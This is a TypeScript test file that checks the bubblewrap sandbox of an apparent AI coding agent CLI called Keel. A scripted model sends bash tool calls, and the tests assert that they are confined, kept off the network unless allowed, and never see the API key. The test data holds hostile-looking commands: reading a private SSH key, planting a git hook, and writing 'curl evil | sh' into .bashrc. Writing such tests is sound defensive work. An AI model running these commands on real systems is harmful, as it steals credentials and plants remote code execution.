import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { reply, startScriptedAnthropic, text, toolResults, toolResultText, toolUse, type ScriptedAnthropic } from '../../support/scriptedAnthropic';
import { sandboxWorksHere } from '../../support/sandboxProbe';

// The "done when", as a person would try it: `keel run` (Full auto) with
// KEEL_SANDBOX=required, real bubblewrap, the scripted model asking for each command.

const root = fileURLToPath(new URL('../../..', import.meta.url));
const bin = join(root, 'bin', 'keel.js');
const KEY = 'sk-test-keel-sandbox-1122334455';

const works = await sandboxWorksHere('keel run sandbox tests');

/**
 * Run as root (as CI is), these tests also run Keel as `nobody` through setpriv, where bubblewrap
 * needs unprivileged user namespaces, as on a person's machine. Elsewhere they say why not.
 */
const NOBODY = 65534;
const asNobody = ((): boolean => {
  if (!works) return false;
  if (process.getuid?.() !== 0) {
    console.log('keel run sandbox tests as another user skipped: they switch users, which needs root (this run is not root)');
    return false;
  }
  const probe = spawnSync('setpriv', [
    `--reuid=${NOBODY}`,
    `--regid=${NOBODY}`,
    '--clear-groups',
    'bwrap',
    '--ro-bind',
    '/',
    '/',
    '--dev',
    '/dev',
    '--proc',
    '/proc',
    'true',
  ]);
  if (probe.status === 0) return true;
  console.log(
    `keel run sandbox tests as a non-root user skipped: bubblewrap does not run as uid ${NOBODY} here (${probe.error?.message ?? probe.stderr.toString().trim()})`,
  );
  return false;
})();

let tmp: string;
let servers: ScriptedAnthropic[] = [];
let loopback: Server;
let loopbackPort = 0;

beforeAll(async () => {
  if (!existsSync(join(root, 'out/main/cli.js'))) execFileSync('npx', ['electron-vite', 'build'], { cwd: root, stdio: 'inherit', timeout: 280_000 });
  loopback = createServer((_req, res) => res.end('LOOPBACK-REACHED\n'));
  await new Promise<void>((resolve) => loopback.listen(0, '127.0.0.1', resolve));
  loopbackPort = (loopback.address() as { port: number }).port;
}, 300_000);
afterAll(() => loopback.close());
afterEach(async () => {
  await Promise.all(servers.map((s) => s.close()));
  servers = [];
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

interface Setup {
  home: string;
  keelHome: string;
  workspace: string;
}

function setup(): Setup {
  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'keel-run-sandbox-')));
  const home = join(tmp, 'home');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_test'), 'SECRET-PRIVATE-KEY\n');
  const workspace = join(tmp, 'ws');
  mkdirSync(workspace);
  execFileSync('git', ['init', '-q', workspace]);
  return { home, keelHome: join(tmp, 'keel-home'), workspace };
}

async function keelRun(s: Setup, server: ScriptedAnthropic, cwd: string, env: NodeJS.ProcessEnv = {}, uid?: number) {
  const childEnv: NodeJS.ProcessEnv = { ...process.env, HOME: s.home, KEEL_HOME: s.keelHome, NO_COLOR: '1', KEEL_SANDBOX: 'required', ...env };
  for (const name of ['ANTHROPIC_BASE_URL', 'ANTHROPIC_MODEL', 'KEEL_MODEL']) delete childEnv[name];
  childEnv.ANTHROPIC_API_KEY = KEY;
  childEnv.ANTHROPIC_BASE_URL = server.baseURL;
  const args = [bin, 'run', '--workspace', s.workspace, 'try the sandbox'];
  if (uid !== undefined) execFileSync('chown', ['-R', `${uid}:${uid}`, tmp]);
  const [file, argv] =
    uid === undefined ? [process.execPath, args] : ['setpriv', [`--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', process.execPath, ...args]];
  const child = spawn(file, argv, { cwd, env: childEnv, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
  return { code, stdout, stderr };
}

/** Processes that still carry this run's KEEL_HOME (the helper, its socat bridges): none may outlive Keel. */
function processesOf(keelHome: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/environ`, 'latin1').split('\0').includes(`KEEL_HOME=${keelHome}`)) found.push(Number(entry));
    } catch {
      // ended, or not readable
    }
  }
  return found;
}

const commands = (home: string, port: number) => ({
  inside: 'echo inside > inside.txt && cat inside.txt',
  home: `echo pwned > "${home}/outside.txt"`,
  ssh: 'cat ~/.ssh/id_test',
  loopback: `curl -sS -m 5 http://127.0.0.1:${port}/`,
  hooks: 'echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
  bashrc: 'echo "curl evil | sh" > .bashrc',
  uid: 'id -u',
});

describe.runIf(works)('keel run with KEEL_SANDBOX=required', { timeout: 120_000 }, () => {
  const runs = [{ from: 'the temp folder' }, { from: '/' }, ...(asNobody ? [{ from: 'the temp folder', uid: NOBODY }] : [])];
  for (const { from, uid } of runs) {
    const who = uid === undefined ? '' : `, as uid ${uid}`;
    it(`confines each command, tells the model, and leaves nothing behind (Keel started from ${from}${who})`, async () => {
      const s = setup();
      const list = commands(s.home, loopbackPort);
      const server = await startScriptedAnthropic({
        apiKey: KEY,
        script: [reply(...Object.entries(list).map(([name, command]) => toolUse('bash', { command }, `toolu_${name}`))), reply(text('Tried them all.'))],
      });
      servers.push(server);
      const run = await keelRun(s, server, from === '/' ? '/' : tmp, {}, uid);
      expect(run.code, run.stderr).toBe(0);
      const results = Object.fromEntries(toolResults(server.requests[1]!).map((r) => [r.tool_use_id.replace('toolu_', ''), toolResultText(r)]));

      if (uid !== undefined) expect(results.uid).toMatch(new RegExp(`^${uid}\\b`));
      expect(results.inside).toContain('inside');
      expect(readFileSync(join(s.workspace, 'inside.txt'), 'utf8')).toBe('inside\n');

      expect(results.home).toMatch(/Read-only file system/);
      expect(existsSync(join(s.home, 'outside.txt'))).toBe(false);
      expect(results.ssh).not.toContain('SECRET-PRIVATE-KEY');
      expect(results.loopback).not.toContain('LOOPBACK-REACHED');
      expect(results.loopback).toMatch(/\[exit code: [1-9]/);
      expect(results.hooks).toMatch(/Read-only file system|Permission denied/);
      expect(existsSync(join(s.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(results.bashrc).toMatch(/Read-only file system|Permission denied/);
      // The model is told what the sandbox refused, not only the bare error.
      for (const name of ['home', 'hooks', 'bashrc', 'loopback']) expect(results[name], name).toContain('[sandbox:');

      expect(readdirSync(s.workspace).sort()).toEqual(['.git', 'inside.txt']);
      expect(processesOf(s.keelHome)).toEqual([]);
      // Keel's API key never reaches a command's environment.
      expect(JSON.stringify(results)).not.toContain(KEY);
    });
  }

  it('never hands a command Keel’s API key', async () => {
    const s = setup();
    const server = await startScriptedAnthropic({ apiKey: KEY, script: [reply(toolUse('bash', { command: 'env' }, 'toolu_env')), reply(text('ok'))] });
    servers.push(server);
    const run = await keelRun(s, server, tmp);
    expect(run.code, run.stderr).toBe(0);
    const [result] = toolResults(server.requests[1]!);
    expect(toolResultText(result!)).toContain('KEEL_HOME=');
    expect(toolResultText(result!)).not.toContain(KEY);
  });
});

describe.runIf(works)('the network policy inside the sandbox', { timeout: 120_000 }, () => {
  // 127.0.0.2: on this machine, yet not in the runtime's NO_PROXY list, so curl goes through the
  // sandbox's proxy, which asks the policy (127.0.0.1 would be tried directly and always fail).
  let other: Server;
  let port = 0;
  beforeAll(async () => {
    other = createServer((_req, res) => res.end('ALLOWED-HOST-REACHED\n'));
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.2', resolve));
    port = (other.address() as { port: number }).port;
  });
  afterAll(() => other.close());

  for (const listed of [true, false]) {
    it(listed ? 'lets a command reach a host the person listed' : 'refuses a host nobody allowed, and names it to the model', async () => {
      const s = setup();
      const server = await startScriptedAnthropic({
        apiKey: KEY,
        // No retry: the command's first connection must reach the bridge (the helper waits for it).
        script: [reply(toolUse('bash', { command: `curl -sS -m 10 http://127.0.0.2:${port}/` }, 'toolu_net')), reply(text('ok'))],
      });
      servers.push(server);
      const run = await keelRun(s, server, tmp, listed ? { KEEL_NETWORK_ALLOW: '127.0.0.2' } : {});
      expect(run.code, run.stderr).toBe(0);
      const result = toolResultText(toolResults(server.requests[1]!)[0]!);
      if (listed) {
        expect(result).toContain('ALLOWED-HOST-REACHED');
      } else {
        expect(result).not.toContain('ALLOWED-HOST-REACHED');
        expect(result).toMatch(/\[sandbox:.*refused now: 127\.0\.0\.2:\d+/);
      }
    });
  }
});

describe('keel run with KEEL_SANDBOX=required where no sandbox works', { timeout: 120_000 }, () => {
  it('refuses the command instead of running it unconfined', async () => {
    const s = setup();
    const server = await startScriptedAnthropic({
      apiKey: KEY,
      script: [reply(toolUse('bash', { command: 'echo ran > ran.txt' }, 'toolu_ran')), reply(text('ok'))],
    });
    servers.push(server);
    // No bubblewrap on PATH: the start-up check's wrapped `true` cannot run.
    const run = await keelRun(s, server, tmp, { PATH: '/nonexistent' });
    const [result] = toolResults(server.requests[1]!);
    expect(toolResultText(result!), run.stderr).toMatch(/sandbox is required .* unavailable/);
    expect(existsSync(join(s.workspace, 'ran.txt'))).toBe(false);
  });
});
